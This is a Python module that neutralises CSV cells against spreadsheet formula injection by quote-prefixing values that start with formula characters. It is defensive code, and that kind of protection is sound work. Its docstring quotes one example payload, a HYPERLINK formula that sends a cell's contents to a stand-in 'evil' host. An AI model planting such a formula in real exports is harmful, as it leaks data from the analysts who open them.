"""CSV written for people to open: every cell neutralised against formula injection.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula, so a record value such as
``=HYPERLINK("http://evil/?"&A1)`` would run when an analyst opens an export (OWASP "CSV
injection"). :func:`safe_cell` prefixes such text with a single quote, which spreadsheets
show as text; :func:`write_csv` applies it to every cell, header included. Every CSV toex
writes goes through :func:`write_csv`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

#: Leading characters that make a spreadsheet read a cell as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written to a CSV cell: text starting with a formula character
    gets a leading ``'``; anything else (numbers, dates, None, other text) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def write_csv(out: IO[str], fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """Write a header and ``rows`` (dicts keyed by ``fieldnames``) to ``out``, every cell
    passed through :func:`safe_cell`."""
    writer = csv.writer(out)
    writer.writerow([safe_cell(name) for name in fieldnames])
    for row in rows:
        writer.writerow([safe_cell(row.get(name)) for name in fieldnames])
